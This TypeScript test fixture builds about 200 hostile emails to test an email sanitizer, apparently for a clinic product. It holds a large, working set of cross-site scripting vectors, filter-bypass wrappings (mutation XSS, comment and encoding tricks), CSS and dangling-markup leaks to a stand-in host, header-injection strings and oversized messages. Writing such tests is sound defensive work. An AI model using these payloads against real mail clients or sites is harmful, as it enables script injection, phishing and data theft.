/** 200 malicious emails: attack vectors in encodings known to bypass filters, and emails that are hostile in their entirety. */

export type HostileEmail = {
  name: string
  from: string
  to: string
  subject: string
  text: string
  html: string
  headers: { name: string; value: string }[]
}

/** No email may trigger a request to this host before the user asks for its images. */
export const outsideHost = 'outside.invalid'
const outside = `https://${outsideHost}`

/** The payload: a dialog and an external request. */
const run = `alert('hostile');fetch('${outside}/script')`
const inAttribute = run.replaceAll("'", '&#39;')

/** Each is dangerous in a page that renders it unmodified. */
const vectors: [name: string, html: string][] = [
  ['a script', `<script>${run}</script>`],
  ['a script from outside', `<script src="${outside}/x.js"></script>`],
  ['a script with an odd end', `<script/x>${run}</script  >`],
  ['an image that fails', `<img src=x onerror="${inAttribute}">`],
  ['an image with slashes for spaces', `<img/src=x/onerror="${inAttribute}"/>`],
  ['a handler in upper case', `<IMG SRC=x ONERROR="${inAttribute}">`],
  ['a handler with a form feed', `<b\fonmouseover\f=\f"${inAttribute}"\fautofocus\ftabindex=1\fonfocus="${inAttribute}">x</b>`],
  ['a body that loads', `<body onload="${inAttribute}" onpageshow="${inAttribute}">`],
  ['details that toggle', `<details open ontoggle="${inAttribute}"><summary>x</summary></details>`],
  ['a marquee', `<marquee onstart="${inAttribute}" loop=1>x</marquee>`],
  ['an animation', `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${inAttribute}">x</b>`],
  ['an input with focus', `<input autofocus onfocus="${inAttribute}">`],
  ['a video', `<video src=x onerror="${inAttribute}"><source onerror="${inAttribute}"></video>`],
  ['an svg', `<svg onload="${inAttribute}"><script>${run}</script></svg>`],
  ['an animated svg', `<svg><a><animate attributeName=href values="javascript:${inAttribute}"/><text y=20>x</text></a></svg>`],
  [
    'an svg with a foreign object',
    `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${inAttribute}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  ],
  ['an svg that uses another', `<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>`],
  ['mathematics', `<math href="javascript:${inAttribute}"><mtext><img src=x onerror="${inAttribute}"></mtext></math>`],
  ['a frame', `<iframe src="javascript:${inAttribute}"></iframe><iframe src="${outside}/frame"></iframe>`],
  ['a frame with a document', `<iframe srcdoc="<script>${inAttribute}</script>">`],
  ['an object', `<object data="${outside}/x.swf"><param name=movie value="${outside}/x.swf"></object><embed src="${outside}/y">`],
  ['a base', `<base href="${outside}/"><img src="relative.png"><a href="x">x</a>`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${outside}/refresh">`],
  ['a cookie', `<meta http-equiv="Set-Cookie" content="session=hostile"><meta http-equiv="Content-Security-Policy" content="">`],
  [
    'a link element',
    `<link rel=stylesheet href="${outside}/x.css"><link rel=prefetch href="${outside}/p"><link rel=dns-prefetch href="//${outsideHost}">`,
  ],
  ['a style sheet', `<style>@import url(${outside}/i.css);body{background:url(${outside}/bg)}</style>`],
  [
    'a form',
    `<form action="${outside}/form"><input name=password type=password><button formaction="javascript:${inAttribute}">Sign in</button></form>`,
  ],
  [
    'a form’s field from afar',
    `<form id=f action="${outside}/form"></form><input form=f name=x><button form=f>x</button><isindex action="${outside}">`,
  ],
  ['a javascript link', `<a href="javascript:${inAttribute}">x</a>`],
  ['a javascript link with a tab', `<a href="java&#9;script&colon;${inAttribute}">x</a>`],
  ['a javascript link with control characters', `<a href="&#1;&#x0A;jAvAsCrIpT:${inAttribute}">x</a>`],
  ['a data link', `<a href="data:text/html,<script>${inAttribute}</script>">x</a><a href="vbscript:x">y</a><a href="blob:x">z</a>`],
  ['a link that pings', `<a href="${outside}/link" ping="${outside}/ping" target=_top rel=opener>x</a>`],
  [
    'a link to a file',
    `<a href="file:///etc/passwd">x</a><a href="\\\\${outsideHost}\\share">y</a><img src="\\\\${outsideHost}\\share\\x.png">`,
  ],
  [
    'a tracking pixel',
    `<img src="${outside}/pixel.gif" width=1 height=1><img src="//${outsideHost}/2.gif"><img src="http://${outsideHost}/3.gif">`,
  ],
  [
    'pictures of many kinds',
    `<img srcset="${outside}/a 1x"><picture><source srcset="${outside}/b"><img src=x lowsrc="${outside}/c" dynsrc="${outside}/d"></picture>`,
  ],
  ['backgrounds', `<table background="${outside}/t"><tr><td background="${outside}/d">x</td></tr></table><body background="${outside}/b">`],
  ['styles that load', `<p style="background-image:url('${outside}/u');list-style:url(${outside}/l);content:url(${outside}/c)">x</p>`],
  [
    'styles that load in disguise',
    `<p style="background:u\\72l(${outside}/e);color:red;background:/**/url(${outside}/f);border-image:image-set('${outside}/g' 1x)">x</p>`,
  ],
  [
    'a style that covers the page',
    `<div style="position:fixed;inset:0;z-index:99999;background:#fff;opacity:.01"><a href="${outside}/cover">x</a></div>`,
  ],
]

/** Ways to write a vector so that a filter parses it differently than a browser. */
const wrappings: [name: string, wrap: (vector: string) => string][] = [
  ['as it is', (vector) => vector],
  ['after an ordinary table', (vector) => `<html><body><table><tr><td>Dear clinic<td>${vector}</table><p>Regards`],
  ['out of noscript', (vector) => `<noscript><p title="</noscript>${vector.replaceAll('"', '&quot;')}"></noscript><noscript></p>${vector}`],
  [
    'by mutation in foreign content',
    (vector) =>
      `<form><math><mtext></form><form><mglyph><style></math>${vector}</style></mglyph></form></mtext></math><svg></p><style><a id="</style>${vector}">`,
  ],
]

/** Vectors that work only unmodified. */
const tricks: [name: string, html: string][] = [
  ['a comment that ends early', `<!--><img src=x onerror="${inAttribute}">-->`],
  ['a comment that ends oddly', `<!-- --!><img src=x onerror="${inAttribute}"> -->`],
  [
    'a comment for one browser',
    `<!--[if gte mso 9]><script>${run}</script><![endif]--><!--[if !mso]><!--><img src=x onerror="${inAttribute}"><!--<![endif]-->`,
  ],
  ['a template', `<template><script>${run}</script><img src=x onerror="${inAttribute}"></template>`],
  ['a template with a shadow', `<div><template shadowrootmode=open><img src=x onerror="${inAttribute}"></template></div>`],
  [
    'nested noscript, template and comment',
    `<noscript><template><!--</template></noscript>--><img src=x onerror="${inAttribute}"></template></noscript>`,
  ],
  ['a title', `<title><a title="</title><img src=x onerror='${inAttribute}'>">`],
  ['a text area', `<textarea><a title="</textarea/><img src=x onerror='${inAttribute}'>">`],
  ['an xmp', `<xmp><p title="</xmp><img src=x onerror='${inAttribute}'>">`],
  ['plain text', `<plaintext><img src=x onerror="${inAttribute}">`],
  [
    'noembed and noframes',
    `<noembed><img title="</noembed><img src=x onerror='${inAttribute}'>"></noembed><noframes></noframes><script>${run}</script>`,
  ],
  ['a selection', `<select><option><style></option></select><img src=x onerror="${inAttribute}"></style>`],
  [
    'a table that moves its content',
    `<table><math><select><mglyph><style><math><table id="</table>"><img src=x onerror='${inAttribute}'>">`,
  ],
  ['formatting that is adopted', `<b><p><i></b><script>${run}</script></i></p><a><div></a><img src=x onerror="${inAttribute}">`],
  ['a CDATA section', `<svg><![CDATA[><img src=x onerror="${inAttribute}">]]></svg><![CDATA[<script>${run}</script>]]>`],
  [
    'a processing instruction',
    `<?xml version="1.0"?><?xml-stylesheet href="javascript:${inAttribute}"?><!DOCTYPE x [<!ENTITY y "<script>">]>&y;`,
  ],
  ['a tag that is never closed', `<img src="${outside}/unclosed`],
  ['a quote that swallows the page', `<a href='${outside}/steal?`],
  ['a handler in an unclosed tag', `<p>Hello</p><img src=x onerror="${inAttribute}"//`],
  ['entities twice', `&lt;script&gt;${run}&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt; &#60;script&#62;${run}`],
  ['UTF-7', `+ADw-script+AD4-${run}+ADw-/script+AD4-<meta charset=utf-7>`],
  ['a NUL in each name', `<scr\0ipt>${run}</scr\0ipt><i\0mg src=x on\0error="${inAttribute}"><\0script>${run}</script>`],
  ['lone surrogates', `\ud800<img src=x \udc00onerror="${inAttribute}">\udfff`],
  [
    'bytes that were no UTF-8',
    Buffer.from([0x3c, 0x70, 0xc0, 0xbc, 0x73, 0xfe, 0xff, 0x80, 0x3e, 0xe2, 0x28, 0xa1, 0x3c, 0x62]).toString('utf8'),
  ],
  ['an older text that reads as markup', Buffer.from(`\xbcscript\xbe${run}\xbc/script\xbe`, 'latin1').toString('latin1')],
  [
    'names of an object’s own',
    `<constructor __proto__="x" onload="${inAttribute}">x</constructor><toString><p __proto__ constructor="x" hasOwnProperty>y</p>`,
  ],
  [
    'a name that clobbers',
    `<img name=body><form name=document id=cookie><input name=attributes></form><a id=x name=location href="${outside}/c">x</a>`,
  ],
  [
    'handlers on a custom element',
    `<x-y onclick="${inAttribute}" is="script" slot=x onfocus="${inAttribute}" tabindex=0 autofocus>x</x-y>`,
  ],
  [
    'a popover',
    `<button popovertarget=x>x</button><div popover id=x onbeforetoggle="${inAttribute}">y</div><dialog open>Sign in again</dialog>`,
  ],
  [
    'a portal, a fenced frame, an applet',
    `<portal src="${outside}/p"></portal><fencedframe></fencedframe><applet code=x archive="${outside}/a"></applet><frameset><frame src="${outside}/f"></frameset>`,
  ],
]

const hostileMessages: [name: string, mail: Partial<HostileEmail>][] = [
  ['5 MB of text', { html: `<p>${'Hello there. '.repeat(385_000)}</p><img src="${outside}/late.gif">` }],
  ['5 MB of open tags', { html: '<div>'.repeat(1_000_000) }],
  ['500 recipients', { to: Array.from({ length: 500 }, (_, at) => `"Person ${at}, Clinic" <person${at}@clinic.example>`).join(', ') }],
  ['a subject that would begin a header', { subject: `Hello\r\nBcc: everybody@clinic.example\r\n\r\n<script>${run}</script>` }],
  ['a sender that is markup', { from: `"<img src=x onerror=alert(1)>" <ana@patient.example>` }],
  [
    'a sender that poses as the clinic',
    {
      from: `"Refyne team@refyne.example" <ana@patient.example>`,
      html: '<a href="https://refyne.example@outside.invalid/">https://refyne.example</a>',
    },
  ],
  [
    'headers that would end one another',
    {
      headers: [
        { name: 'X-Note', value: `a\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>` },
        { name: 'In-Reply-To', value: '<'.repeat(10_000) },
      ],
    },
  ],
  [
    'a subject of 100,000 characters that turns the text around',
    { subject: `\u202e${'x'.repeat(99_990)}\u2066\0`, text: '\u202egnp.exe', html: '\u202egnp.exe' },
  ],
  ['a script of a million beginnings of tags, and no words', { text: '', html: `<script>${'<'.repeat(1_000_000)}` }],
  ['nothing at all', { subject: '', text: '', html: '' }],
  [
    'a link of a million characters',
    { html: `<a href="${outside}/${'x'.repeat(1_000_000)}">x</a><p style="${'color:red;'.repeat(10_000)}">y</p>` },
  ],
]

const mail = (name: string, part: Partial<HostileEmail>): HostileEmail => ({
  name,
  from: 'Ana Hostile <ana@patient.example>',
  to: 'team@refyne.example',
  subject: name,
  text: `${name}: <script>${run}</script>`,
  html: `<p>${name}</p>`,
  headers: [],
  ...part,
})

export const hostileEmails: readonly HostileEmail[] = [
  ...vectors.flatMap(([name, vector]) => wrappings.map(([wrapping, wrap]) => mail(`${name}, ${wrapping}`, { html: wrap(vector) }))),
  ...tricks.map(([name, html]) => mail(name, { html })),
  ...hostileMessages.map(([name, part]) => mail(name, part)),
]
